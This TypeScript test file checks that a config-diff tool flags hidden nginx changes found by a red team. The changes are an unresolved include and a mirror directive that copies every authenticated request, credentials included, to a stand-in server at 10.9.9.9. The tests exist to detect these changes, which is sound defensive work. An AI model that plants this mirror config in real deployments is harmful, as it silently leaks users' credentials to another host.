/**
 * Red team 14, `gwc diff` for nginx (DESIGN.md 7.8): what the reader cannot read is read as
 * nothing. Traefik's reader has a fact for it (unread-changed: a plugin, an unknown middleware type,
 * another provider's, either way a security finding); nginx's has none, so:
 * - `include /etc/nginx/snippets/extra.conf;` added in a route location or in gwc's server, naming
 *   a file the deployed copy does not hold (a directory read, or a snippet outside `nginx -T`'s
 *   reach), can hold anything (`proxy_set_header X-Consumer $http_x_consumer`, `satisfy any`,
 *   `limit_req_dry_run on`): read as no change either way;
 * - `mirror /_rt14_copy;` in a keyed route plus `location = /_rt14_copy { internal; proxy_pass
 *   http://10.9.9.9$request_uri; }`: nginx sends a copy of every request (its Authorization,
 *   x-api-key and Cookie lines included: the mirror location sets no header) to another server
 *   after auth (https://nginx.org/r/mirror): read as no change (backend-changed /
 *   credentials-forwarded expected).
 * Fix class: an include the reader did not resolve, and any directive outside a known list in a
 * gwc location or server, is a fact of its own (unread-changed, as Traefik); mirror's target
 * location read as a backend of the route.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { State } from '../../src/diff/entity.js';
import type { OutputFile } from '../../src/targets/output-file.js';
import { nginxAddition } from '../helpers/diff-mutations.js';
import { build, judge } from './helpers/diff-coverage.js';

const ROUTE = / *limit_req zone=gwc_cov_rl\d+ burst=\d+ nodelay;/;
const SERVER = /^\s*server_name [^;]+;/m;

describe('red team 14: gwc diff (nginx) and what its reader cannot read', () => {
  let files: OutputFile[];
  let built: State;
  beforeAll(async () => {
    ({ files, built } = await build('nginx'));
  }, 300_000);

  it('control: `satisfy any` added to the IP-ruled route is a security finding', () => {
    const m = nginxAddition(files, / *set \$gwc_cov_route \d+;(?=(?:\n(?! *location).*)*?\n *allow 10\.0\.0\.0\/8;)/, ['        satisfy any;'], 'satisfy any');
    expect(judge('nginx', built, m, [], []).result).toBe('covered');
  });

  it('an include of a file the reader does not hold, in a route location, is a finding', () => {
    const v = judge('nginx', built, nginxAddition(files, ROUTE, ['        include /etc/nginx/snippets/extra.conf;'], 'include route'), [], []);
    expect(v.result, v.detail).toBe('covered');
  });

  it("an include of a file the reader does not hold, in gwc's server, is a finding", () => {
    const v = judge('nginx', built, nginxAddition(files, SERVER, ['    include /etc/nginx/snippets/extra.conf;'], 'include server'), [], []);
    expect(v.result, v.detail).toBe('covered');
  });

  it("a mirror of a keyed route's requests (credentials included) to another server is a security finding", () => {
    const m1 = nginxAddition(files, ROUTE, ['        mirror /_rt14_copy;'], 'mirror');
    const m2 = nginxAddition(m1.files, SERVER, ['    location = /_rt14_copy { internal; proxy_pass http://10.9.9.9$request_uri; }'], 'mirror + copy location');
    const v = judge('nginx', built, m2, [], []);
    expect(v.result, v.detail).toBe('covered');
  });
});
